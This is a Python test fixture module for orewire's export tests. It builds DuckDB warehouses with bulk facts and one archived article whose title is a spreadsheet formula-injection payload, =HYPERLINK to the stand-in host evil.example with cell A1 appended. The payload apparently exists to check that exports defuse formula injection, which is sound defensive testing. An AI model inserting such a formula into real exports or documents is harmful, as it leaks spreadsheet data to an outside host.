"""Warehouses for the export tests: a copy of the web tests' warehouse with many facts added by SQL
through the single writer, spread over its real articles; and one loaded from an archived page
whose title is a spreadsheet formula."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

from orewire.archive import WarcWriter
from orewire.archive.manifest import ManifestWriter
from orewire.demo.site import DemoArticle, article_page
from orewire.settings import Settings
from orewire.stages import rebuild_warehouse, write_run_record
from orewire.warehouse import writer
from tests.conftest import REPO_ROOT

# More rows than any cap exports ever had (1,000,000).
FORMER_CAP = 1_000_000

# A load that holds the writer lock until told to go on (a line on its stdin): "writing", then "done".
WRITER = """
import sys
from pathlib import Path
from orewire.settings import Settings
from orewire.warehouse import writer
settings = Settings(warehouse=Path(sys.argv[1]), archive=Path(sys.argv[2]), state_dir=Path(sys.argv[3]))
with writer(settings, timeout=60) as conn:
    conn.execute("UPDATE articles SET title = 'Written during an export' WHERE article_id = ?", [sys.argv[4]])
    print("writing", flush=True)
    sys.stdin.readline()
print("done", flush=True)
"""


def copy_warehouse(settings: Settings, root: Path) -> Settings:
    """A copy of ``settings``' warehouse file under ``root`` (same archive, own state)."""
    target = root / "wh" / "orewire.duckdb"
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(settings.warehouse, target)
    return Settings(warehouse=target, archive=settings.archive, sources=settings.sources, state_dir=root / "state")


def add_facts(settings: Settings, n: int) -> None:
    """``n`` quantity facts, 'bulk' ids, spread over the warehouse's articles (the writer also
    leaves the snapshot readers fall back on)."""
    with writer(settings, timeout=60) as conn:
        conn.execute("""
            INSERT INTO facts (fact_id, article_id, type, value, unit, sentence, start, "end", extractor_version)
            SELECT 'bulk' || lpad(i::VARCHAR, 9, '0'), a.article_id, 'quantity', i::DOUBLE, 't',
                   'The plant processed ' || i || ' tonnes of ore.', (i // 1000)::INTEGER, (i // 1000 + 6)::INTEGER,
                   'bulk'
            FROM range(?) r(i)
            JOIN (SELECT article_id, row_number() OVER (ORDER BY article_id) - 1 AS k FROM articles) a
              ON a.k = i % (SELECT count(*) FROM articles)
        """, [n])


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Gold report")'
FORMULA_TEXT = ["Kazakhmys acquired a 51% stake in Copper LLP for $120 million, the company said on Monday.",
                "Kazatomprom produced 21,000 tonnes of uranium in 2023, the national atomic company reported.",
                "The Aktogay deposit in the Abai region holds reserves of 1.2 million tonnes of copper."]


def formula_warehouse(root: Path) -> Settings:
    """A warehouse loaded the way orewire loads one (archive, then rebuild through the writer)
    from an article whose title is a spreadsheet formula."""
    settings = Settings(warehouse=root / "wh" / "orewire.duckdb", archive=root / "raw",
                        sources=REPO_ROOT / "sources.toml", state_dir=root / "state")
    run_id = "20261101T000000Z-formula"
    when = datetime.now(UTC).replace(microsecond=0) - timedelta(days=1)
    article = DemoArticle(4188888, FORMULA_TITLE, FORMULA_TEXT, when, "Trend staff")
    body = article_page(article, []).encode()
    url = "https://en.trend.az" + article.path
    with WarcWriter(settings.archive, "trend", run_id) as warc, \
            ManifestWriter(settings.archive, "trend", run_id) as manifest:
        loc = warc.write_exchange(
            url=url, method="GET", request_headers=[("User-Agent", "orewire-test")], request_body=b"",
            status=200, reason="OK", response_headers=[("Content-Type", "text/html; charset=utf-8")], body=body,
            fetched_at=when, extra={"Source": "trend", "Run-ID": run_id})
        manifest.write(url=url, final_url=url, status=200, fetched_at=when, warc_file=loc.warc_file,
                       warc_offset=loc.offset, kind="article", bytes=len(body), content_type="text/html")
    write_run_record(settings, {
        "run_id": run_id, "flow": "daily", "source": "trend", "started_at": when, "finished_at": when,
        "status": "ok", "fetched": 1, "new_articles": 1, "errors": 0, "params": {"sources": ["trend"]}})
    result = rebuild_warehouse(settings)
    assert not result.errors, result.errors
    return settings


def lines_of(pieces: Iterator[bytes]) -> Iterator[bytes]:
    """The lines of a streamed response body, whatever its pieces' boundaries."""
    rest = b""
    for piece in pieces:
        *lines, rest = (rest + piece).split(b"\n")
        yield from lines
    if rest:
        yield rest
